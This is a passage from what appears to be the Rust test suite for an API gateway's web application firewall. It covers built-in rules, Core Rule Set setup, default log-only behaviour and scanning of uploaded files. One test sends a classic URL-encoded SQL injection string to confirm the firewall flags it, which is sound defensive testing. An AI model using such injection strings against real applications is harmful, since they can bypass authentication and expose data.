    let wrong: Vec<String> = found
        .iter()
        .filter(|(name, outcome)| {
            expected.get(**name).map(|ends| ends[column]) != Some(outcome.as_str())
        })
        .map(|(name, outcome)| format!("{name}: {outcome}, not {:?}", expected.get(name)))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert_eq!(expected.len(), found.len(), "rows that are not asked for");
}

const HEADING: &str = "\
# name = built-in rules | Core Rule Set: the status, the problem, and the rules that found something,
# the verdict last.

";

#[test]
fn nothing_gets_around_the_built_in_rules() {
    let found = outcomes("waf-bypass", &setup("[waf.builtin]\nmode = \"block\""));
    check(0, &found);
    let benign = found.iter().filter(|(name, _)| name.starts_with("benign"));
    for (name, outcome) in benign {
        assert!(outcome.starts_with("200"), "{name}: {outcome}");
    }
}

#[test]
fn nothing_gets_around_the_core_rule_set() {
    let Some(root) = std::env::var_os("PORTCULLIS_CONFORMANCE") else {
        eprintln!("PORTCULLIS_CONFORMANCE is not set: NOTHING IS TESTED HERE");
        return;
    };
    let root = std::path::Path::new(&root).join("crs-v4");
    let root = root.display();
    let waf = format!(
        "[waf.crs]\nmode = \"block\"\non_unsupported = \"skip\"\n\
         rules = [\"{root}/crs-setup.conf.example\", \"{root}/rules/*.conf\"]\n\
         variables = {{ crs_validate_utf8_encoding = \"1\", inbound_anomaly_score_threshold = \"3\", \
         allowed_methods = \"GET POST\", \
         allowed_request_content_type = \"|application/json| \
         |application/x-www-form-urlencoded| |multipart/form-data| |text/xml| |text/plain| \
         |application/vnd.a+json| |application/x-ndjson| |application/json-seq| |application/soap+xml|\" }}"
    );
    // All APIs say so.
    let of_api = "[\"X-Filter\", \"Authorization\"]";
    let setup = setup(&waf)
        .replacing(of_api, &format!("{of_api}\nwaf = \"crs\""))
        .replacing("waf_headers = []", "waf_headers = []\nwaf = \"crs\"")
        .replacing("\"team-graphql\"", "\"team-graphql\"\nwaf = \"crs\"");
    check(1, &outcomes("waf-bypass-crs", &setup));
}

/// By default nothing is refused, and a long upload is not held up to be looked at.
#[test]
fn by_default_attacks_are_told_and_long_uploads_stream_past() {
    let gateway = setup("").start("waf-default", echo());
    let mut client = gateway.connect();
    let attack = client.ask(get("/v1/items?a=1%27%20or%20%271%27=%271", ""));
    assert_eq!(attack.status, 200);
    let long = vec![b'x'; 900 * 1024];
    let upload = client.ask(post("application/octet-stream", &long));
    assert_eq!(upload.status, 200, "{upload:?}");
    let broken = client.ask(post(JSON, "{\"a\":1"));
    assert_eq!(broken.status, 200);
    let lines = gateway.lines();
    assert_eq!(rules(&lines[0]), [1101, 1000], "{lines:?}");
    assert_eq!(lines[0]["waf"][0]["field"], "ARGS:a");
    assert_eq!(lines[0]["waf"][0]["message"], "sql-injection");
    assert_eq!(lines[0]["waf"][1]["message"], "attack: score 5 of 5");
    assert_eq!(rules(&lines[1]), [0_u64; 0], "{lines:?}");
    assert_eq!(rules(&lines[2]), [1706], "{lines:?}");
}

/// Files are looked at where the configuration says so, also when some of their bytes are no text.
#[test]
fn files_are_looked_at_on_request() {
    let file = "Content-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\nContent-Type: text/plain";
    let sent = |content: &[u8]| {
        let head = format!("--b\r\n{file}\r\n\r\n");
        let body = [head.as_bytes(), content, b"\r\n--b--\r\n"].concat();
        post("multipart/form-data; boundary=b", body)
    };
    let attack = SQL.as_bytes();
    let picture = [b"\x89PNG\r\n\x1a\n", &noise(20_000)[..]].concat();
    for (files, found) in [(false, 200), (true, 403)] {
        let waf = format!("[waf.builtin]\nmode = \"block\"\nfiles = {files}");
        let gateway = setup(&waf).start(&format!("waf-files-{files}"), echo());
        for (content, status) in [
            (attack.to_vec(), found),
            ([attack, b"\xff"].concat(), found),
            ([&picture, attack, &noise(64)].concat(), found),
            (picture.clone(), 200),
            (b"a text, and it's fine".to_vec(), 200),
        ] {
            let answer = gateway.ask(sent(&content));
            assert_eq!(answer.status, status, "files = {files}: {answer:?}");
        }
    }
}
